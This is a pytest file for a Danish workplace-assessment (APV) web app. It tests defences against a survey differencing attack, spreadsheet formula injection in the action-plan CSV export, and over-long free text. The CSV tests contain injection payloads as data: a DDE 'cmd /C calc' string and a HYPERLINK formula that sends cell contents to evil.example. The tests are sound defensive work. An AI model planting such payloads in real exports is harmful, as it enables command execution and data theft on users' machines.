"""Issue 16, APV: holes found by probing.

1. Differencing the anonymous survey: results that change with every answer give away the
   answer of whoever answers next (results after 6 minus results after 5). The results are
   shown only once the survey has closed, and closing is final.
2. CSV injection: a handlingsplan cell starting like a formula is escaped (OWASP).
3. Free text is bounded in the forms (portal and admin)."""

from __future__ import annotations

import re
from datetime import date

import pytest
import time_machine
from django.core.exceptions import ValidationError
from django.template.loader import render_to_string
from django.test import Client
from django.urls import reverse

from apv import services
from apv.forms import (
    ActionItemForm,
    ActionItemUpdateForm,
    ChecklistItemForm,
    FollowUpForm,
    ProblemForm,
    SicknessForm,
)
from apv.models import ApvActionItem, ApvCycle, ApvFollowUp, SurveyInvitation
from apv.selectors import eligible_owners, survey_results
from core.exports import spreadsheet_cell, spreadsheet_row
from core.tenancy import scopes_disabled, tenant_scope
from organisations.models import Person

from . import factories as f

TODAY = date(2026, 3, 2)
CLOSES_ON = date(2026, 3, 20)


@pytest.fixture(autouse=True)
def frozen():
    with time_machine.travel("2026-03-02 12:00 +01:00", tick=False):
        yield


@pytest.fixture
def survey(org_a, mailoutbox, django_capture_on_commit_callbacks):
    """A survey APV of Alfa AMG Nord sent to six employees with e-mail; (cycle, their links)."""
    with tenant_scope(org_a.kommune):
        for i in range(5):
            f.person(org_a.kommune, f"Ansat{i}", unit=org_a.workplace, email=f"a{i}@ex.dk")
        org_a.leader_person.email = "leder@ex.dk"
        org_a.leader_person.save()
        cycle = services.apv_cycle_start(committee=org_a.amg, method=ApvCycle.Method.SURVEY)
        with django_capture_on_commit_callbacks(execute=False):
            services.survey_open(cycle, closes_on=CLOSES_ON)
        ids = list(SurveyInvitation.objects.filter(state="pending").values_list("pk", flat=True))
    for pk in ids:
        assert services.survey_send_invitation_now(pk) == "sent"
    tokens = [re.search(r"/apv/svar/([^/\s]+)/", m.body).group(1) for m in mailoutbox]
    assert len(tokens) == 6
    return cycle, tokens


def answer(token: str, rating: int) -> None:
    with scopes_disabled():
        cycle = SurveyInvitation.objects.get(token_hash=services.token_hash(token)).cycle
        item_ids = list(cycle.items.values_list("pk", flat=True))
    services.survey_submit(token, {pk: rating for pk in item_ids}, today=TODAY)


def reload(org, cycle: ApvCycle) -> ApvCycle:
    with tenant_scope(org.kommune):
        return ApvCycle.objects.get(pk=cycle.pk)


VOLATILE = [
    # A fresh CSRF token per render; the number who answered is allowed to change.
    (re.compile(r'(name="csrfmiddlewaretoken" value=)"[^"]*"'), r"\1"),
    (re.compile(r'(CSRFToken": )"[^"]*"'), r"\1"),
    (re.compile(r"\d+ af \d+ har svaret \(\d+ %\)"), "N af M har svaret"),
]


def normalised(text: str) -> str:
    for pattern, replacement in VOLATILE:
        text = pattern.sub(replacement, text)
    return text


@pytest.fixture
def doors(client, org_a, hr_a, survey, monkeypatch):
    """Every door that could show survey results, as text: the group's APV page (as a member
    and as HR), the handlingsplan PDF (its HTML) and CSV, and the HR admin's APV page."""
    cycle, _tokens = survey
    f.login_as(client, org_a, org_a.amr.person, "amr")
    hr = Client()
    hr.force_login(hr_a)

    def html_not_pdf(template, context):
        return render_to_string(template, context).encode()

    monkeypatch.setattr("apv.views.render_pdf", html_not_pdf)

    def read() -> dict[str, str]:
        pages = {
            "member page": client.get(reverse("apv:cycle", args=[cycle.public_id])),
            "hr page": hr.get(reverse("apv:cycle", args=[cycle.public_id])),
            "pdf": client.get(reverse("apv:plan_pdf", args=[cycle.public_id])),
            "csv": client.get(reverse("apv:plan_csv", args=[cycle.public_id])),
            "admin": hr.get(reverse("admin:apv_apvcycle_change", args=[cycle.pk])),
        }
        assert {name: r.status_code for name, r in pages.items()} == dict.fromkeys(pages, 200)
        return {name: r.content.decode() for name, r in pages.items()}

    return read


# --- 1. the differencing attack ------------------------------------------------------------------


def test_it_gives_away_nothing_of_the_sixth_answer_while_the_survey_is_open(org_a, survey, doors):
    cycle, tokens = survey
    for token in tokens[:5]:
        answer(token, rating=0)  # five see no problems
    after_five = doors()
    answer(tokens[5], rating=2)  # the sixth sees major problems everywhere
    after_six = doors()

    # The count moved (that alone is allowed) ...
    assert "5 af 6 har svaret (83 %)" in after_five["member page"]
    assert "6 af 6 har svaret (100 %)" in after_six["member page"]
    # ... and nothing else did, on any door: the sixth answer can't be derived from a difference.
    for name in after_five:
        assert normalised(after_five[name]) == normalised(after_six[name]), name
    assert "Oplever problemer" not in after_six["member page"] + after_six["hr page"]
    with tenant_scope(org_a.kommune):
        assert survey_results(cycle).items == []

    # Closed: the results appear, as the aggregate of all six.
    with tenant_scope(org_a.kommune):
        services.survey_close(cycle)
    closed = doors()
    for name in ("member page", "hr page"):
        assert "Oplever problemer" in closed[name]
        # Every question: 6 answered, 1 of 6 (17 %) sees problems.
        assert re.search(r"<td>6</td><td>17 %</td>", closed[name]), name
    with tenant_scope(org_a.kommune):
        first = survey_results(cycle).items[0]
    assert (first.counts, first.answered, first.problem_share) == ({0: 5, 2: 1}, 6, 17)


def test_it_shows_the_results_when_the_closing_date_has_passed(org_a, survey):
    cycle, tokens = survey
    for token in tokens[:5]:
        answer(token, rating=1)
    with tenant_scope(org_a.kommune):
        assert survey_results(cycle, today=CLOSES_ON).visible is False  # the last day: open
        results = survey_results(cycle, today=date(2026, 3, 21))
    assert (results.closed, results.visible, results.items[0].problem_share) == (True, True, 100)


def test_it_refuses_to_reopen_a_survey_closed_by_the_group(org_a, survey):
    cycle, tokens = survey
    for token in tokens[:5]:
        answer(token, rating=0)
    with tenant_scope(org_a.kommune):
        services.survey_close(cycle)
        with pytest.raises(ValidationError, match="kan ikke åbnes igen"):
            services.survey_open(cycle, closes_on=date(2026, 4, 1))
        with pytest.raises(ValidationError, match="allerede lukket"):
            services.survey_close(cycle)
    # The sixth link stays dead, so the results shown can never change.
    with pytest.raises(ValidationError, match="lukket"):
        answer(tokens[5], rating=2)
    cycle = reload(org_a, cycle)
    assert (cycle.survey_closed, cycle.survey_closes_on) == (True, CLOSES_ON)
    with tenant_scope(org_a.kommune):
        assert survey_results(cycle).responded == 5


def test_it_refuses_to_reopen_a_survey_whose_closing_date_has_passed(org_a, survey):
    cycle, tokens = survey
    for token in tokens[:5]:
        answer(token, rating=0)
    with time_machine.travel("2026-03-21 09:00 +01:00", tick=False), tenant_scope(org_a.kommune):
        with pytest.raises(ValidationError, match="kan ikke åbnes igen"):
            services.survey_open(cycle, closes_on=date(2026, 4, 1))
        with pytest.raises(ValidationError, match="allerede lukket"):
            services.survey_close(cycle)
    assert reload(org_a, cycle).survey_closes_on == CLOSES_ON


def test_it_lets_the_group_extend_a_survey_that_is_still_open(org_a, survey):
    """Nothing has been shown while it is open, so moving the date is harmless."""
    cycle, _tokens = survey
    with tenant_scope(org_a.kommune):
        services.survey_open(cycle, closes_on=date(2026, 4, 1))
    assert reload(org_a, cycle).survey_closes_on == date(2026, 4, 1)


@pytest.mark.parametrize(
    "change",
    [
        {"survey_closed": False},
        {"survey_closes_on": date(2026, 4, 1)},
        {"survey_closed": False, "survey_closes_on": date(2026, 4, 1)},
    ],
)
def test_it_refuses_an_edit_that_reopens_a_closed_survey(org_a, survey, change):
    cycle, _tokens = survey
    with tenant_scope(org_a.kommune):
        services.survey_close(cycle)
        cycle = ApvCycle.objects.get(pk=cycle.pk)
        for name, value in change.items():
            setattr(cycle, name, value)
        with pytest.raises(ValidationError, match="kan ikke åbnes igen"):
            services.apv_cycle_save(cycle)
    assert reload(org_a, cycle).survey_closed is True


def test_it_refuses_to_reopen_by_switching_the_method_away_and_back(org_a, survey):
    cycle, _tokens = survey
    with time_machine.travel("2026-03-21 09:00 +01:00", tick=False), tenant_scope(org_a.kommune):
        cycle = ApvCycle.objects.get(pk=cycle.pk)
        cycle.method = ApvCycle.Method.CHECKLIST
        services.apv_cycle_save(cycle)
        cycle.method = ApvCycle.Method.SURVEY
        cycle.survey_closes_on = date(2026, 4, 1)
        with pytest.raises(ValidationError, match="kan ikke åbnes igen"):
            services.apv_cycle_save(cycle)
    assert reload(org_a, cycle).survey_closes_on == CLOSES_ON


def test_it_refuses_to_close_a_survey_that_was_never_sent(org_a):
    """Closing is final, so closing an unsent survey would leave the APV stuck."""
    with tenant_scope(org_a.kommune):
        cycle = services.apv_cycle_start(committee=org_a.amg, method=ApvCycle.Method.SURVEY)
        with pytest.raises(ValidationError, match="ikke sendt"):
            services.survey_close(cycle)
    assert reload(org_a, cycle).survey_closed is False


def test_the_portal_offers_no_way_to_resend_a_closed_survey(client, org_a, survey):
    cycle, _tokens = survey
    f.login_as(client, org_a, org_a.amr.person, "amr")
    url = reverse("apv:survey_manage", args=[cycle.public_id])
    closed = client.post(url, {"action": "close"}, follow=True).content.decode()
    assert "Spørgeskemaet er lukket." in closed
    assert "Send spørgeskemaet til medarbejderne" not in closed
    again = client.post(url, {"action": "open", "closes_on": "2026-04-01"}, follow=True)
    assert "kan ikke åbnes igen" in again.content.decode()
    assert reload(org_a, cycle).survey_closed is True


def test_the_admin_closes_by_action_and_cannot_edit_the_closing(client, org_a, hr_a, survey):
    cycle, _tokens = survey
    client.force_login(hr_a)
    page = client.get(reverse("admin:apv_apvcycle_change", args=[cycle.pk])).content.decode()
    # Shown, not editable: the only way to change them is the services behind the actions.
    assert 'name="survey_closed"' not in page and 'name="survey_closes_on"' not in page
    client.post(
        reverse("admin:apv_apvcycle_changelist"),
        {"action": "close_survey", "_selected_action": [cycle.pk]},
    )
    assert reload(org_a, cycle).survey_closed is True
    again = client.post(
        reverse("admin:apv_apvcycle_changelist"),
        {"action": "open_survey", "_selected_action": [cycle.pk]},
        follow=True,
    )
    assert "kan ikke åbnes igen" in again.content.decode()
    assert reload(org_a, cycle).survey_closed is True


# --- 2. CSV injection ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Støj i kantinen = for højt", "Støj i kantinen = for højt"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_it_escapes_a_cell_that_starts_like_a_formula(value, expected):
    assert spreadsheet_cell(value) == expected


def test_it_escapes_every_cell_of_a_row():
    assert spreadsheet_row(["=1", "ok", "@x"]) == ["'=1", "ok", "'@x"]


def test_it_writes_no_formula_into_the_handlingsplan_csv(client, org_a):
    with tenant_scope(org_a.kommune):
        cycle = services.apv_cycle_start(committee=org_a.amg)
        owner = Person.objects.create(
            kommune=org_a.kommune, first_name="=cmd|' /C calc'!A0", last_name="X"
        )
        services.action_item_save(
            ApvActionItem(
                kommune=org_a.kommune,
                cycle=cycle,
                problem='=HYPERLINK("http://evil.example/?"&A1;"Klik")',
                cause="+1+1",
                measure="-2+3",
                owner=owner,
                due_on=date(2026, 6, 1),
                follow_up="@SUM(1+1)*cmd|' /C calc'!A0",
            )
        )
    f.login_as(client, org_a, org_a.amr.person, "amr")
    text = client.get(reverse("apv:plan_csv", args=[cycle.public_id])).content.decode()
    row = text.splitlines()[1]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1;""Klik"")"' in row
    assert ";'+1+1;'-2+3;'=cmd|' /C calc'!A0 X;" in row
    assert row.endswith(";'@SUM(1+1)*cmd|' /C calc'!A0")
    cells = [cell.strip('"') for cell in row.split(";")]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


# --- 3. long free text ---------------------------------------------------------------------------


def too_long(form, field: str) -> str:
    assert not form.is_valid()
    return " ".join(form.errors[field])


def test_it_bounds_the_free_text_of_the_portal_forms(org_a):
    with tenant_scope(org_a.kommune):
        cycle = services.apv_cycle_start(committee=org_a.amg)
        long, ok = "x" * 10_001, "x" * 10_000
        cases = [
            (ActionItemUpdateForm, {"status": "open"}, "follow_up", {}),
            (FollowUpForm, {"held_on": "2026-03-02"}, "note", {}),
            (
                ProblemForm,
                {"area": "fysisk", "title": "Støj", "likelihood": "1", "consequence": "1"},
                "description",
                {},
            ),
            (
                ActionItemForm,
                {
                    "problem": "Støj",
                    "measure": "Lydabsorbenter",
                    "owner": str(org_a.leader_person.public_id),
                    "due_on": "2026-06-01",
                },
                "cause",
                {
                    "instance": ApvActionItem(cycle=cycle, kommune=org_a.kommune),
                    "owners": eligible_owners(org_a.amg),
                    "problems": cycle.problems.all(),
                    "today": TODAY,
                },
            ),
        ]
        for form_class, data, field, kwargs in cases:
            message = too_long(form_class({**data, field: long}, **kwargs), field)
            assert "højst være 10000 tegn (den er 10001)" in message, form_class
            assert form_class({**data, field: ok}, **kwargs).is_valid(), form_class

        measure = ActionItemForm({**cases[3][1], "measure": long}, **cases[3][3])
        assert "højst være 10000 tegn" in too_long(measure, "measure")
        sickness = SicknessForm(
            {
                "period_start": "2025-01-01",
                "period_end": "2025-12-31",
                "days": "10",
                "rate": "4,5",
                "comment": "x" * 5_001,
            }
        )
        assert "højst være 5000 tegn" in too_long(sickness, "comment")
        note = ChecklistItemForm({"finding": "ok", "note": "x" * 2_001})
        assert "højst være 2000 tegn" in too_long(note, "note")


def test_it_stores_no_follow_up_longer_than_the_bound(client, org_a):
    """Through the portal: the over-long conclusion is refused in Danish, nothing is stored."""
    with tenant_scope(org_a.kommune):
        cycle = services.apv_cycle_start(committee=org_a.amg)
        ApvCycle.objects.filter(pk=cycle.pk).update(plan_adopted_on=TODAY, phase=4)
    f.login_as(client, org_a, org_a.amr.person, "amr")
    response = client.post(
        reverse("apv:follow_up", args=[cycle.public_id]),
        {"held_on": "2026-03-02", "note": "x" * 20_000},
        follow=True,
    )
    assert "højst være 10000 tegn" in response.content.decode()
    with tenant_scope(org_a.kommune):
        assert not ApvFollowUp.objects.exists()


def test_it_bounds_the_free_text_in_the_admin(client, org_a, hr_a):
    with tenant_scope(org_a.kommune):
        cycle = services.apv_cycle_start(committee=org_a.amg)
    client.force_login(hr_a)
    page = client.get(reverse("admin:apv_apvcycle_change", args=[cycle.pk])).content.decode()
    # The APV's notes and every inline's text areas (e.g. the checklist points' notes).
    assert re.search(r'<textarea name="notes"[^>]*maxlength="10000"', page)
    assert re.search(r'<textarea name="items-0-note"[^>]*maxlength="10000"', page)
